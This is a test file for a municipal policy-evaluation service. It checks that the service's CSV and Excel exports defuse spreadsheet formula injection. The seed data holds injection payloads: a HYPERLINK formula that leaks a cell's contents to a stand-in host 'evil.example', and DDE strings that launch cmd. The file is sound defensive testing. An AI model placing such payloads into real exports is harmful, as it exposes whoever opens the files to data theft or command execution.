import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { ApiHarness } from '../support/api-harness';
import { ManualClock } from '../support/manual-clock';
import { rawBytes } from '../support/raw-bytes';

const W = '/wards/nerima';
const FY = `${W}/cycles/2022`;
const USERS = [
  { username: 'kikaku', role: 'planning_office' as const },
  { username: 'iin', role: 'council_member' as const },
  { username: 'kansa', role: 'auditor' as const },
  { username: 'hoiku', role: 'section_staff' as const, sectionId: 'hoiku' },
];
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const PAYLOADS = [HYPERLINK, '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0'];

/** A cell a spreadsheet would run: starts with = + - @ tab or CR, and is not a plain number or a lone sign. */
const runnable = (cell: string) => cell.length > 1 && /^[=+\-@\t\r]/.test(cell) && !/^[+-]?[\d,]*\.?\d+%?$/.test(cell);
const cellsOf = (csv: string): string[] => parse(csv, { bom: true, relax_column_count: true }).flat();

describe('CSV formula injection (OWASP): every CSV the service writes', () => {
  const clock = new ManualClock(new Date('2023-04-03T00:00:00Z'));
  let api: ApiHarness;

  beforeAll(async () => {
    api = await ApiHarness.start(USERS, { clock });
    const kikaku = await api.as('kikaku');
    await kikaku
      .post(`${W}/catalogue/sections`, { sectionId: 'hoiku', department: '@こども家庭部', name: '-保育課' })
      .expect(200);
    await kikaku.post(`${W}/catalogue/pillars`, { pillarId: 'I', code: 'I', title: '+子どもたち' }).expect(200);
    await kikaku.post(`${W}/catalogue/plans`, { planId: '1', code: '1', title: '=子育て', pillarId: 'I' }).expect(200);
    await kikaku
      .post(`${W}/catalogue/projects`, {
        projectId: 'P1',
        name: HYPERLINK,
        home: { planId: '1', sectionNo: '1', sectionTitle: '保育' },
        sectionId: 'hoiku',
        notSuitedForShortTermEvaluation: false,
      })
      .expect(200);
    await kikaku
      .post(`${W}/catalogue/kpis`, {
        kpiId: 'K1',
        planId: '1',
        indicator: '@SUM(1+1)',
        kind: 'output',
        sectionId: 'hoiku',
        baseline: { value: '-5', asOf: 'R3' },
        target: { value: '+1.5', asOf: 'R5' },
      })
      .expect(200);
    await kikaku
      .post(FY, { scheme: 'nerima', deadline: '2023-05-31', bReasons: [{ code: 'other', label: '=1+2' }] })
      .expect(200);
    const hoiku = await api.as('hoiku');
    await hoiku
      .post(`${FY}/projects/P1/submission`, {
        actual: { text: PAYLOADS[1] },
        rating: { scheme: 'nerima', grade: 'B', bReason: 'other', note: PAYLOADS[2] },
      })
      .expect(200);
    await hoiku
      .post(`${FY}/kpis/K1/submission`, { actual: { value: PAYLOADS[3], asOf: '\t=令和4年度末' } })
      .expect(200);
    const iin = await api.as('iin');
    await iin.post(`${FY}/projects/P1/review`, { decision: 'approve', comments: HYPERLINK }).expect(200);
    await iin.post(`${FY}/kpis/K1/review`, { decision: 'approve' }).expect(200);
    await kikaku.post(`${FY}/closing`, {}).expect(200);
    await kikaku.post(`${FY}/publications`, {}).expect(200);
  });
  afterAll(() => api.stop());

  const csvs = async (): Promise<Record<string, string>> => {
    const kikaku = await api.as('kikaku');
    const kansa = await api.as('kansa');
    const text = async (request: PromiseLike<{ status: number; text: string }>) => {
      const response = await request;
      expect(response.status).toBe(200);
      return response.text;
    };
    return {
      projects: await text(api.http.get(`/public${W}/reports/2022?format=csv&table=projects`)),
      kpis: await text(api.http.get(`/public${W}/reports/2022?format=csv&table=kpis`)),
      summary: await text(api.http.get(`/public${W}/reports/2022?format=csv&table=summary`)),
      audit: await text(kansa.get(`${W}/audit/cycles/2022?format=csv`)),
      itemAudit: await text(kansa.get(`${W}/audit/projects/P1?fiscalYear=2022&format=csv`)),
      ledger: await text(kikaku.get(`${FY}/reminder-ledger?format=csv`)),
    };
  };

  it('no cell of any CSV starts a formula; the text is kept behind an apostrophe', async () => {
    const all = await csvs();
    for (const [name, csv] of Object.entries(all)) {
      expect({ name, runnable: cellsOf(csv).filter(runnable) }).toEqual({ name, runnable: [] });
    }
    expect(cellsOf(all.projects)).toEqual(
      expect.arrayContaining([`'${HYPERLINK}`, `'${PAYLOADS[1]}`, `'${PAYLOADS[2]}`, `'=子育て`, `'+子どもたち`]),
    );
    expect(cellsOf(all.kpis)).toEqual(expect.arrayContaining([`'${PAYLOADS[3]}`, `'@SUM(1+1)`]));
    expect(cellsOf(all.summary)).toContain(`'=1+2`);
    expect(cellsOf(all.ledger)).toContain(`'-保育課`);
  });

  it('keeps number-like values as they are (-5, +1.5)', async () => {
    const { kpis } = await csvs();
    expect(cellsOf(kpis)).toEqual(expect.arrayContaining(['-5', '+1.5']));
  });

  it('the workbook holds the same text as text cells, never formulas', async () => {
    const response = await api.http.get(`/public${W}/reports/2022?format=xlsx`).buffer(true).parse(rawBytes);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.body as never);
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const hyperlinks = cells.filter((cell) => cell.text.includes('HYPERLINK'));
    expect(hyperlinks.length).toBeGreaterThan(0);
    for (const cell of hyperlinks) expect(cell.type).toBe(ExcelJS.ValueType.String);
  });
});
